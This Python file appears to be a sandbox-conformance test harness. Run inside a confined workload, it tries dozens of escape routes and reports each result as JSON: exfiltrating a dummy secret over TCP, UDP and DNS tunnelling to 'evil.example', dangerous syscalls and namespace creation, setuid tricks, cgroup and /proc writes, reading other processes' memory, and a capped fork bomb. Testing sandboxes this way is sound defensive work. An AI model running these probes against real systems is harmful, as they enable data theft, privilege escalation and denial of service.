"""A hostile program, run as a governed workload: tries one way out after the other and prints what came of each as JSON.

``hostile.py SINK_V4 SINK_V6 [ATTEMPT …]``. An outcome is ``ok …`` or the error's name; nothing here judges, the tests do.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

SECRET = b"exfiltrated-0123456789"
SINK_4, SINK_6 = sys.argv[1:3]
_libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS: dict[str, Callable[[], str]] = {}

_SYSCALLS = {
    "setns": 308, "pidfd_getfd": 438, "ptrace": 101, "process_vm_readv": 310, "mount": 165, "umount2": 166, "pivot_root": 155,
    "chroot": 161, "open_tree": 428, "fsopen": 430, "mount_setattr": 442, "bpf": 321, "perf_event_open": 298,
    "userfaultfd": 323, "keyctl": 250, "add_key": 248, "io_uring_setup": 425, "io_uring_enter": 426, "clone3": 435,
    "kcmp": 312, "open_by_handle_at": 304, "init_module": 175, "kexec_load": 246, "reboot": 169, "syslog": 103,
    "iopl": 172, "swapon": 167, "fanotify_init": 300, "settimeofday": 164, "sethostname": 170, "open_tree_attr": 467,
}  # fmt: skip
_NAMESPACES = {
    "time": 0x80, "mount": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000,
    "pid": 0x20000000, "net": 0x40000000,
}  # fmt: skip


def attempt(name: str) -> Callable[[Callable[[], str]], Callable[[], str]]:
    def register(body: Callable[[], str]) -> Callable[[], str]:
        ATTEMPTS[name] = body
        return body

    return register


def _name(error: OSError) -> str:
    if isinstance(error, TimeoutError):
        return "timeout"
    return errno.errorcode.get(error.errno or 0, str(error))


def _syscall(number: int, *arguments: int) -> str:
    result = _libc.syscall(ctypes.c_long(number), *[ctypes.c_long(each) for each in arguments])
    return f"ok {result}" if result >= 0 else errno.errorcode[ctypes.get_errno()]


# -- TCP: every way of making a connection ---------------------------------------------------------------------------------


def _exchange(dial: socket.socket) -> str:
    """Push the secret through a connection; ``closed`` when the other end hung up without a byte."""
    try:
        dial.sendall(SECRET)
        data = dial.recv(100)
    except ConnectionError:
        return "closed"
    return f"ok {data!r}" if data else "closed"


def _dial(family: int, address: str, port: int, *, options: Callable[[socket.socket], None] = lambda _: None) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as dial:
        dial.settimeout(4)
        options(dial)
        dial.connect((address, port))
        return _exchange(dial)


for _port in (22, 80, 443, 6379, 8888, 65535):
    attempt(f"tcp4-{_port}")(lambda port=_port: _dial(socket.AF_INET, SINK_4, port))  # type: ignore[misc]
attempt("tcp6-443")(lambda: _dial(socket.AF_INET6, SINK_6, 443))
attempt("tcp-mapped-443")(lambda: _dial(socket.AF_INET6, f"::ffff:{SINK_4}", 443))
attempt("tcp-compatible-443")(lambda: _dial(socket.AF_INET6, f"::{SINK_4}", 443))
attempt("tcp-bindtodevice-lo")(
    lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(socket.SOL_SOCKET, 25, b"lo\0"))
)
attempt("tcp-bindtodevice-host")(
    lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(socket.SOL_SOCKET, 25, b"stage0\0"))
)
attempt("tcp-mark")(lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(socket.SOL_SOCKET, 36, 0x2000)))
attempt("tcp-transparent")(lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(0, 19, 1)))
attempt("tcp-repair")(lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(6, 19, 1)))
attempt("tcp-ulp-smc")(lambda: _dial(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(6, 31, b"smc\0")))
attempt("tcp-source-route")(
    lambda: _dial(
        socket.AF_INET,
        SINK_4,
        443,
        options=lambda s: s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(SINK_4) + b"\x00"),
    )
)
attempt("tcp-routing-header")(
    lambda: _dial(
        socket.AF_INET6,
        SINK_6,
        443,
        options=lambda s: s.setsockopt(41, 57, bytes([0, 2, 2, 1]) + bytes(4) + socket.inet_pton(socket.AF_INET6, SINK_6)),
    )
)


@attempt("tcp-foreign-source")
def _foreign_source() -> str:
    def bind(dial: socket.socket) -> None:
        dial.setsockopt(0, 15, 1)  # IP_FREEBIND
        dial.bind(("10.77.0.1", 0))

    return _dial(socket.AF_INET, SINK_4, 443, options=bind)


@attempt("tcp-fastopen")
def _fastopen() -> str:
    with socket.socket() as dial:
        dial.settimeout(4)
        dial.sendto(SECRET, socket.MSG_FASTOPEN, (SINK_4, 443))
        return _exchange(dial)


@attempt("tcp-nonblocking")
def _nonblocking() -> str:
    with socket.socket() as dial:
        dial.setblocking(False)
        dial.connect_ex((SINK_4, 443))
        until = time.monotonic() + 4
        while time.monotonic() < until:
            try:
                dial.send(SECRET)
                break
            except BlockingIOError:
                time.sleep(0.005)
        dial.setblocking(True)
        dial.settimeout(4)
        return _exchange(dial)


@attempt("tcp-threads")
def _threads() -> str:
    outcomes: set[str] = set()

    def one() -> None:
        try:
            outcomes.add(_dial(socket.AF_INET, SINK_4, 9999))
        except OSError as error:
            outcomes.add(_name(error))

    threads = [threading.Thread(target=one) for _ in range(50)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return " ".join(sorted(outcomes))


@attempt("tcp-listener-direct")
def _direct() -> str:
    found = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "127.9.9.9"), (socket.AF_INET, "192.0.0.8")):
        for port in (700, 701, 702, 703, 901, 902):
            try:
                found.append(_dial(family, host, port))
            except OSError as error:
                found.append(_name(error))
    return " ".join(sorted(set(found)))


@attempt("tcp-own-relay")
def _own_relay() -> str:
    """Two processes of ours and a server of our own: the relay may be had, what it dials is governed."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        with socket.create_connection(server.getsockname(), 4) as inner:
            outer, _ = server.accept()
            inner.sendall(SECRET)
            outer.recv(100)
            outer.close()
    return _dial(socket.AF_INET, SINK_4, 443)


# -- what is not TCP ---------------------------------------------------------------------------------------------------------


def _datagram(family: int, address: str, port: int, *, connected: bool = False, options: Callable[[socket.socket], object] | None = None) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        if options:
            options(sender)
        if connected:
            sender.connect((address, port))
            sender.send(SECRET)
        else:
            sender.sendto(SECRET, (address, port))
    return "ok sent"


for _port in (123, 443, 5353, 9999):
    attempt(f"udp4-{_port}")(lambda port=_port: _datagram(socket.AF_INET, SINK_4, port))  # type: ignore[misc]
attempt("udp6-443")(lambda: _datagram(socket.AF_INET6, SINK_6, 443))
attempt("udp-mapped-443")(lambda: _datagram(socket.AF_INET6, f"::ffff:{SINK_4}", 443))
attempt("udp-connected")(lambda: _datagram(socket.AF_INET, SINK_4, 443, connected=True))
attempt("udp-broadcast")(lambda: _datagram(socket.AF_INET, "255.255.255.255", 9999, options=lambda s: s.setsockopt(1, 6, 1)))
attempt("udp-multicast")(lambda: _datagram(socket.AF_INET, "224.0.0.251", 5353))
attempt("udp6-multicast")(lambda: _datagram(socket.AF_INET6, "ff02::fb", 5353))
attempt("udp-encapsulation")(lambda: _datagram(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(17, 100, 1)))
attempt("udp-segmented")(lambda: _datagram(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(17, 103, 8)))
attempt("udp-source-53")(lambda: _datagram(socket.AF_INET, SINK_4, 9999, options=lambda s: s.bind(("0.0.0.0", 53))))


def _question(server: str, name: bytes, kind: int, *, tcp: bool = False) -> str:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"
    message = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as asker:
        asker.settimeout(4)
        asker.connect((server, 53))
        asker.sendall(struct.pack(">H", len(message)) + message if tcp else message)
        answer = asker.recv(1000)[2 if tcp else 0 :]
    return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}"


attempt("dns-tunnel-txt")(lambda: _question(SINK_4, b"exfiltrated-0123456789.evil.example", 16))
attempt("dns-tunnel-null")(lambda: _question("8.8.8.8", b"exfiltrated-0123456789.evil.example", 10))
attempt("dns-tunnel-tcp")(lambda: _question(SINK_4, b"exfiltrated-0123456789.evil.example", 1, tcp=True))
attempt("dns-below-target")(lambda: _question(SINK_4, b"exfiltrated-0123456789.crm.internal", 1))


@attempt("dns-port-raw-data")
def _dns_raw() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(SECRET * 20, (SINK_4, 53))
    return "ok sent"


def _families() -> Iterator[tuple[int, int]]:
    for family in range(46):
        for kind in (1, 2, 3, 4, 5, 6, 10):
            yield family, kind


@attempt("families")
def _every_family() -> str:
    """Which (family, type) can be had at all, whatever the protocol."""
    had = set()
    for family, kind in _families():
        for protocol in (0, 1, 2, 6, 16, 17, 33, 58, 115, 132, 136, 143, 255, 256, 262):
            descriptor = _libc.socket(family, kind, protocol)
            if descriptor >= 0:
                os.close(descriptor)
                had.add(f"{family}/{kind}/{protocol}" if family != 1 else f"{family}/{kind}")
    return " ".join(sorted(had))


@attempt("families-pair")
def _every_pair() -> str:
    """The same by socketpair, which makes sockets too: families where it does anything else than a plain refusal."""
    had = set()
    pair = (ctypes.c_int * 2)()
    for family, kind in _families():
        for protocol in (0, 6, 17):
            if _libc.socketpair(family, kind, protocol, pair) == 0:
                had.add(f"{family}/{kind}")
            elif ctypes.get_errno() not in (errno.EPERM, errno.EAFNOSUPPORT) and family != socket.AF_UNIX:
                had.add(f"{family}:{errno.errorcode[ctypes.get_errno()]}")
    return " ".join(sorted(had))


_FOREIGN = r"""
#include <stdio.h>
#include <string.h>
#include <errno.h>
int main(void) {
    int result; unsigned arguments[3] = {17, 3, 0x300};
    /* socket(AF_PACKET, SOCK_RAW) by the 32-bit call gate: socketcall is 102 there, socket 359 */
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(359), "b"(17), "c"(3), "d"(0x300));
    printf("%d ", result);
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20));
    printf("%d ", result);
    long wide;
    __asm__ volatile("syscall" : "=a"(wide) : "a"(0x40000000L | 41), "D"(17L), "S"(3L), "d"(0x300L) : "rcx", "r11", "memory");
    printf("%ld\n", wide);
    return 0;
}
"""


@attempt("foreign-architectures")
def _foreign() -> str:
    Path("/tmp/foreign.c").write_text(_FOREIGN)
    subprocess.run(["gcc", "-o", "/tmp/foreign", "/tmp/foreign.c"], check=True, capture_output=True)
    done = subprocess.run(["/tmp/foreign"], capture_output=True, text=True, check=False)
    return f"{done.stdout.strip()} status {done.returncode}"


# -- becoming somebody, or somewhere else ------------------------------------------------------------------------------------

for _call, _number in _SYSCALLS.items():
    attempt(f"call-{_call}")(lambda number=_number: _syscall(number, 0, 0, 0, 0, 0))  # type: ignore[misc]
for _space, _flag in _NAMESPACES.items():
    attempt(f"unshare-{_space}")(lambda flag=_flag: _syscall(272, flag))  # type: ignore[misc]
    if _space != "time":
        attempt(f"clone-{_space}")(lambda flag=_flag: _clone(flag))  # type: ignore[misc]


def _clone(flag: int) -> str:
    pid = _libc.syscall(56, ctypes.c_long(flag | signal.SIGCHLD), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return f"ok {pid}" if pid > 0 else errno.errorcode[ctypes.get_errno()]


for _uid in (0, 901, 902, 1901):
    attempt(f"setuid-{_uid}")(lambda uid=_uid: _syscall(117, uid, uid, uid))  # type: ignore[misc]


@attempt("setgroups")
def _setgroups() -> str:
    os.setgroups([0])
    return "ok"


@attempt("setuid-programs")
def _setuid_programs() -> str:
    outcomes = []
    for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "--bind", "/tmp", "/mnt"], ["newgrp"], ["ping", "-c1", "-W1", SINK_4], ["chsh", "-s", "/bin/sh"], ["passwd", "-d", "root"]):
        try:
            done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5, check=False)
            outcomes.append(f"{command[0]}={'FAILED' if done.returncode else done.stdout.strip()}")
        except (OSError, subprocess.SubprocessError):
            outcomes.append(f"{command[0]}=absent")
    return " ".join(outcomes)


@attempt("setuid-made")
def _setuid_made() -> str:
    """Make a set-user-id program for somebody outside to start."""
    made = []
    Path("/tmp/program").write_bytes(b"#!/bin/sh\n")
    ways: tuple[Callable[[], object], ...] = (
        lambda: Path("/tmp/program").chmod(0o4755),
        lambda: os.close(os.open("/tmp/made", os.O_CREAT | os.O_RDWR, 0o4755)),
        lambda: os.fchmod(os.open("/tmp/program", os.O_RDONLY), 0o4755),
    )
    for how in ways:
        try:
            how()
            made.append("ok")
        except OSError as error:
            made.append(_name(error))
    return " ".join(made)


@attempt("capabilities")
def _capabilities() -> str:
    lines = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return " ".join(lines[key] for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"))


# -- other processes and the machinery -----------------------------------------------------------------------------------------


@attempt("processes")
def _processes() -> str:
    """What of other processes can be read, and who can be signalled."""
    found = []
    own = os.getpid()
    for entry in sorted(Path("/proc").iterdir()):
        if not entry.name.isdigit() or int(entry.name) == own:
            continue
        for part in ("environ", "mem", "maps", "auxv", "io", "stack", "syscall", "pagemap"):
            try:
                with (entry / part).open("rb") as file:
                    file.read(1)
                found.append(f"{entry.name}/{part}")
            except OSError:
                pass
        for link in ("root", "cwd", "exe", "ns/net", "ns/mnt"):
            try:
                os.readlink(entry / link)
                found.append(f"{entry.name}/{link}")
            except OSError:
                pass
        try:
            os.listdir(entry / "fd")
            found.append(f"{entry.name}/fd")
        except OSError:
            pass
        try:
            os.kill(int(entry.name), 0)
            found.append(f"{entry.name}/kill")
        except OSError:
            pass
    return " ".join(found)


@attempt("signals")
def _signals() -> str:
    reached = []
    for pid in range(1, 40000):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
            reached.append(str(pid))
        except OSError:
            pass
    return " ".join(reached)


@attempt("descriptors")
def _descriptors() -> str:
    return " ".join(sorted(f"{fd}:{os.readlink(f'/proc/self/fd/{fd}').split(':')[0]}" for fd in os.listdir("/proc/self/fd") if int(fd) < 3)) + " " + " ".join(
        fd for fd in os.listdir("/proc/self/fd") if int(fd) > 2 and os.path.exists(f"/proc/self/fd/{fd}") and not os.readlink(f"/proc/self/fd/{fd}").startswith("/proc")
    )


def _read_all(folders: list[str]) -> str:
    found = []
    for folder in folders:
        try:
            found += [str(each) for each in Path(folder).rglob("*")]
            found += [f"{folder}:{name}" for name in os.listdir(folder)]
        except OSError:
            pass
    return " ".join(found)


attempt("service-folders")(lambda: _read_all(os.environ["HOSTILE_FOLDERS"].split(":")))


@attempt("service-files")
def _service_files() -> str:
    found = []
    for path in os.environ["HOSTILE_FILES"].split(":"):
        try:
            Path(path).read_bytes()
            found.append(path)
        except OSError:
            pass
    return " ".join(found)


@attempt("service-sockets")
def _service_sockets() -> str:
    found = []
    for path in os.environ["HOSTILE_SOCKETS"].split(":"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_UNIX, kind) as dial:
                try:
                    dial.connect(path.replace("@", "\0"))
                    found.append(path)
                except OSError:
                    pass
    return " ".join(found)


@attempt("writable-places")
def _writable() -> str:
    """Every folder of the view in which a file can be made."""
    found = []
    for folder, folders, _ in os.walk("/"):
        if folder in ("/proc", "/sys"):
            folders.clear()
            continue
        if folder.count("/") > 3:
            folders.clear()
        if os.access(folder, os.W_OK | os.X_OK):
            try:
                name = f"{folder.rstrip('/')}/.hostile"
                os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o600))
                os.unlink(name)
                found.append(folder)
                folders.clear()
            except OSError:
                pass
    return " ".join(sorted(found))


@attempt("proc-writable")
def _proc_writable() -> str:
    found = []
    for folder in ("/proc/sys", "/sys"):
        for root, folders, files in os.walk(folder):
            if root.count("/") > 6:
                folders.clear()
            for name in files:
                if os.access(f"{root}/{name}", os.W_OK):
                    try:
                        os.close(os.open(f"{root}/{name}", os.O_WRONLY))
                        found.append(f"{root}/{name}")
                    except OSError:
                        pass
    for name in ("/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/1/oom_score_adj", "/proc/irq/default_smp_affinity"):
        try:
            os.close(os.open(name, os.O_RDWR))
            found.append(name)
        except OSError:
            pass
    return " ".join(found)


@attempt("devices")
def _devices() -> str:
    return " ".join(sorted(os.listdir("/dev")))


@attempt("device-made")
def _device_made() -> str:
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
    return "ok"


@attempt("cgroup-escape")
def _cgroup_escape() -> str:
    found = []
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        before, _, after = line.partition(" - ")
        if after.split()[0] in ("cgroup2", "cgroup"):
            place = before.split()[4]
            try:
                Path(place, "cgroup.procs").write_text("0")
                found.append(place)
            except OSError:
                pass
    return " ".join(found) + Path("/proc/self/cgroup").read_text().splitlines()[-1]


@attempt("terminal-injection")
def _injection() -> str:
    return " ".join([_syscall(16, 0, request, 0) for request in (0x5412, 0x541C, 0x5423, 0x5412 | 1 << 40)])


@attempt("memfd-exec")
def _memfd() -> str:
    """A program that never was a file: what it dials is governed all the same."""
    descriptor = os.memfd_create("x", 0)
    os.write(descriptor, Path("/bin/true").read_bytes())
    done = subprocess.run([f"/proc/self/fd/{descriptor}"], pass_fds=[descriptor], check=False)
    return f"status {done.returncode} {_dial(socket.AF_INET, SINK_4, 443)}"


@attempt("privileged-ports")
def _privileged_ports() -> str:
    had = []
    for port in (53, 80, 443, 700, 701, 901, 902):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
                with socket.socket(family, kind) as squatter:
                    squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                    try:
                        squatter.bind((host, port))
                        had.append(str(port))
                    except OSError:
                        pass
    return " ".join(had)


@attempt("fork-bomb")
def _fork_bomb() -> str:
    """How many processes one workload can have at once (it stops at 9000 by itself)."""
    read, write = os.pipe()
    children = []
    try:
        for _ in range(9000):
            pid = os.fork()
            if pid == 0:
                os.close(write)
                os.read(read, 1)
                os._exit(0)
            children.append(pid)
        outcome = "ok 9000"
    except OSError as error:
        outcome = f"{_name(error)} {len(children)}"
    os.close(write)
    for pid in children:
        os.waitpid(pid, 0)
    return outcome


@attempt("limits")
def _limits() -> str:
    sizes = [f"{place}={os.statvfs(place).f_blocks * os.statvfs(place).f_frsize >> 20}M" for place in ("/tmp", "/run", "/dev/shm", "/var/tmp", "/dev")]
    return f"{resource.getrlimit(resource.RLIMIT_NPROC)} {resource.getrlimit(resource.RLIMIT_CORE)} {' '.join(sizes)}"


def main() -> None:
    chosen = sys.argv[3:] or list(ATTEMPTS)
    outcomes = {}
    for name in chosen:
        try:
            outcomes[name] = ATTEMPTS[name]()
        except OSError as error:
            outcomes[name] = _name(error)
        except Exception as error:
            outcomes[name] = f"! {error!r}"
    print(json.dumps(outcomes, indent=1))


if __name__ == "__main__":
    main()
